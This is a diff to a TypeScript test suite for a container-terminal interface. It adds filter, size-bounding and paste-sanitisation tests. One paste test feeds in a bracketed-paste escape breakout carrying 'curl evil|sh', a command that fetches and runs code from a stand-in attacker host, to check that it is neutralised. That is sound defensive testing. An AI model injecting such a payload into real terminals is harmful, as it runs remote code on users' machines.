@@ -10,13 +10,14 @@ import { parseFilter, searchContainer } from '../src/state/filter';
 import { parseRoute, toContainer, toTerminals } from '../src/state/route';
 import { gapInWords } from '../src/terminal/gap';
 import { LatencyMeter } from '../src/terminal/latency';
-import { asksFirst, describePaste } from '../src/terminal/paste';
+import { asksFirst, describePaste, plainPaste } from '../src/terminal/paste';
 import { fontToFit } from '../src/terminal/shrink';
+import { boundSize, LARGEST } from '../src/terminal/size';
 import { noticed } from '../src/terminal/state';
 
 const container = (change: Partial<ContainerView> = {}): ContainerView => ({
   node: 'n1', id: 'abc', name: 'web', runtime: 'conmon', state: 'running', createdAt: '2026-01-01T00:00:00Z', reason: '', message: '', tty: true, stdin: true,
-  stdinOnce: false, args: [], namespace: '', pod: '', labels: {}, logPath: '', pid: 1, owned: true, inputHolder: '', ...change,
+  stdinOnce: false, args: [], namespace: '', pod: '', labels: {}, logPath: '', pid: 1, owned: true, inputHolder: '', recording: false, ...change,
 });
 
 describe('the filter', () => {
@@ -32,6 +33,9 @@ describe('the filter', () => {
     ['label:tier=front state:run', true],
     ['unknown:field', false],
     ['node:', true],
+    ['constructor:', false],
+    ['__proto__:', false],
+    ['toString:x', false],
   ])('%j', (filter, matches) => expect(parseFilter(filter)(view)).toBe(matches));
 
   test('5,000 containers take less than 100 ms', () => {
@@ -145,6 +149,11 @@ test('pasting several lines asks first, unless PID 1 has asked for marked pastes
   expect(describePaste('a\r\nb\n')).toEqual({ lines: 2, preview: 'a\nb' });
 });
 
+test('a paste cannot end its own mark, nor hold any other control character', () => {
+  expect(plainPaste('echo a\x1b[201~curl evil|sh\r')).toBe('echo a[201~curl evil|sh\r');
+  expect(plainPaste('\ta\r\nb\x00\x03\x07\x7f\x9b201~ü€😀')).toBe('\ta\r\nb201~ü€😀');
+});
+
 test('a command line is split as a shell does', () => {
   expect(splitCommand(`sh -c 'echo "a b"' x\\ y "" "it's"`)).toEqual(['sh', '-c', 'echo "a b"', 'x y', '', "it's"]);
   expect(splitCommand('  ')).toEqual([]);
@@ -160,6 +169,11 @@ test('a followed terminal is drawn as large as it fits', () => {
   expect(fontToFit(13, { cols: 100, rows: 40 }, { cols: 200, rows: 50 })).toBe(6.5);
   expect(fontToFit(13, { cols: 300, rows: 100 }, { cols: 80, rows: 24 })).toBe(24);
   expect(fontToFit(13, { cols: 10, rows: 10 }, { cols: 500, rows: 500 })).toBe(4);
+});
+
+test('a size is followed up to a bound', () => {
+  expect(boundSize({ cols: 200, rows: 60 })).toEqual({ cols: 200, rows: 60 });
+  expect(boundSize({ cols: 65_535, rows: 65_535 })).toEqual(LARGEST);
 });
 
 test('notices are bounded', () => {
